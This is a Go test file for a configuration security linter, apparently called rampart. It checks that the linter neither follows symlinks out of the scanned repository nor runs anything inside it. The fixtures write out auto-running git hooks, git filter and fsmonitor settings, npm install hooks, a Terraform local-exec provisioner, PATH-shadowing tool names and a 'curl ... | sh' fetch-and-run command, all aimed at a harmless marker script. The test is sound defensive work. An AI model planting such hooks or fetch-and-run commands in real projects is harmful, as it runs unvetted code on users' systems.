package walk_test

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/rampart-lint/rampart/lint"
	"github.com/rampart-lint/rampart/lint/config"
	"github.com/rampart-lint/rampart/lint/walk"
)

const adminPolicy = `{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}`

func write(t *testing.T, path, content string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// collect walks roots and returns every entry as "path (skip reason)",
// relative to base.
func collect(t *testing.T, base string, roots ...string) []string {
	t.Helper()
	var out []string
	err := walk.Walk(context.Background(), roots, walk.Options{}, func(e walk.Entry) error {
		rel, _ := filepath.Rel(base, e.Path)
		s := filepath.ToSlash(rel)
		if e.Skip != "" {
			s += " (" + e.Skip + ")"
		}
		if e.Err != nil {
			s += " (error)"
		}
		out = append(out, s)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// The walk never leaves the paths it was given: a link to a file or a
// directory outside is named as skipped and not followed, and link loops
// (to an ancestor, between two links, to itself) end.
func TestWalkDoesNotFollowLinks(t *testing.T) {
	base := t.TempDir()
	repo, outside := filepath.Join(base, "repo"), filepath.Join(base, "outside")
	write(t, filepath.Join(outside, "admin-policy.json"), adminPolicy, 0o644)
	write(t, filepath.Join(outside, "nested", "other-policy.json"), adminPolicy, 0o644)
	write(t, filepath.Join(repo, "policy.json"), adminPolicy, 0o644)
	write(t, filepath.Join(repo, "sub", "README"), "", 0o644)
	symlink(t, "../outside/admin-policy.json", filepath.Join(repo, "escape-policy.json"))
	symlink(t, filepath.Join(outside, "nested"), filepath.Join(repo, "escape-dir"))
	symlink(t, "..", filepath.Join(repo, "sub", "up"))
	symlink(t, "b.yaml", filepath.Join(repo, "a.yaml"))
	symlink(t, "a.yaml", filepath.Join(repo, "b.yaml"))
	symlink(t, "self.yaml", filepath.Join(repo, "self.yaml"))

	got := collect(t, base, repo)
	want := []string{
		"repo/a.yaml (symbolic link, not followed)",
		"repo/b.yaml (symbolic link, not followed)",
		"repo/escape-dir (symbolic link, not followed)",
		"repo/escape-policy.json (symbolic link, not followed)",
		"repo/policy.json",
		"repo/self.yaml (symbolic link, not followed)",
		"repo/sub/up (symbolic link, not followed)",
	}
	if !slices.Equal(got, want) {
		t.Errorf("walk:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
	}

	// Through the linter: the policy inside is reported, the one outside
	// (reachable only through links) is not.
	l, err := lint.New(context.Background(), lint.Options{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := l.LintPaths(context.Background(), []string{repo})
	if err != nil {
		t.Fatal(err)
	}
	var files []string
	for _, f := range res.Findings {
		if !slices.Contains(files, f.File) {
			files = append(files, f.File)
		}
	}
	if !slices.Equal(files, []string{filepath.Join(repo, "policy.json")}) {
		t.Errorf("findings in %v, want only in repo/policy.json", files)
	}
	if len(res.Skipped) != 6 || res.Files != 1 {
		t.Errorf("%d linted, %d skipped, want 1 and the 6 links", res.Files, len(res.Skipped))
	}
}

// A path the user names is read even through a link (they chose it), a
// named link to a directory is walked, and a named link that loops is an
// error for that path only.
func TestNamedLinks(t *testing.T) {
	base := t.TempDir()
	write(t, filepath.Join(base, "real", "policy.json"), adminPolicy, 0o644)
	symlink(t, filepath.Join(base, "real", "policy.json"), filepath.Join(base, "named-policy.json"))
	symlink(t, "loop.json", filepath.Join(base, "loop.json"))
	// A named link to a directory is walked; links inside it are not
	// followed.
	symlink(t, "real", filepath.Join(base, "named-dir"))
	symlink(t, "../named-policy.json", filepath.Join(base, "real", "inner-link.json"))
	got := collect(t, base, filepath.Join(base, "named-policy.json"), filepath.Join(base, "loop.json"), filepath.Join(base, "named-dir"))
	want := []string{"named-policy.json", "loop.json (error)", "named-dir/inner-link.json (symbolic link, not followed)", "named-dir/policy.json"}
	if !slices.Equal(got, want) {
		t.Errorf("walk: %v, want %v", got, want)
	}
}

// Nothing in the repository is ever executed: not its git hooks, not the
// fsmonitor or filters its git config names, not the commands its pipelines
// run, not a program named like a tool rampart might call and found first on
// PATH. Each would leave a mark; the test lints the repository (config
// included) and finds none, while the linted files did produce findings.
func TestNothingExecuted(t *testing.T) {
	base := t.TempDir()
	repo, marks := filepath.Join(base, "repo"), filepath.Join(base, "marks")
	if err := os.MkdirAll(marks, 0o755); err != nil {
		t.Fatal(err)
	}
	script := func(name string) string { return "#!/bin/sh\ntouch '" + filepath.Join(marks, name) + "'\n" }
	write(t, filepath.Join(repo, "evil.sh"), script("evil.sh"), 0o755)
	for _, hook := range []string{"pre-commit", "post-checkout", "fsmonitor-watchman"} {
		write(t, filepath.Join(repo, ".git", "hooks", hook), script("hook-"+hook), 0o755)
	}
	write(t, filepath.Join(repo, ".git", "HEAD"), "ref: refs/heads/main\n", 0o644)
	write(t, filepath.Join(repo, ".git", "config"), "[core]\n\tfsmonitor = ./evil.sh\n\thooksPath = .git/hooks\n[filter \"x\"]\n\tsmudge = ./evil.sh\n\tclean = ./evil.sh\n", 0o644)
	write(t, filepath.Join(repo, ".gitattributes"), "* filter=x\n", 0o644)
	tools := []string{"git", "sh", "bash", "terraform", "tofu", "opa", "conftest", "node", "npm", "make", "docker", "curl", "jq", "aws", "rampart"}
	for _, tool := range tools {
		write(t, filepath.Join(repo, "bin", tool), script("tool-"+tool), 0o755)
	}
	t.Setenv("PATH", filepath.Join(repo, "bin")+string(os.PathListSeparator)+repo+string(os.PathListSeparator)+os.Getenv("PATH"))
	write(t, filepath.Join(repo, "buildspec.yml"), "version: 0.2\nphases:\n  build:\n    commands:\n      - ./evil.sh\n      - curl -fsSL https://example.com/x.sh | sh\n", 0o644)
	write(t, filepath.Join(repo, ".github", "workflows", "ci.yml"), "on: push\njobs:\n  b:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: ./evil.sh\n      - uses: actions/checkout@v4\n", 0o644)
	write(t, filepath.Join(repo, "main.tf"), "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"./evil.sh\"\n  }\n}\ndata \"external\" \"x\" {\n  program = [\"./evil.sh\"]\n}\n", 0o644)
	write(t, filepath.Join(repo, "package.json"), `{"name": "x", "scripts": {"preinstall": "./evil.sh", "postinstall": "./evil.sh"}}`, 0o644)
	write(t, filepath.Join(repo, ".rampart.yaml"), "rules:\n  supply-chain/unpinned-action: high\n", 0o644)

	cfg, err := config.Load(filepath.Join(repo, ".rampart.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	l, err := lint.New(context.Background(), lint.Options{Config: cfg})
	if err != nil {
		t.Fatal(err)
	}
	res, err := l.LintPaths(context.Background(), []string{repo})
	if err != nil {
		t.Fatal(err)
	}
	rules := map[string]bool{}
	for _, f := range res.Findings {
		rules[f.Rule] = true
	}
	if !rules["supply-chain/remote-script-execution"] || !rules["supply-chain/unpinned-action"] {
		t.Errorf("the repository was not linted as expected: %v", rules)
	}
	entries, err := os.ReadDir(marks)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		t.Errorf("%s ran while linting", e.Name())
	}
}
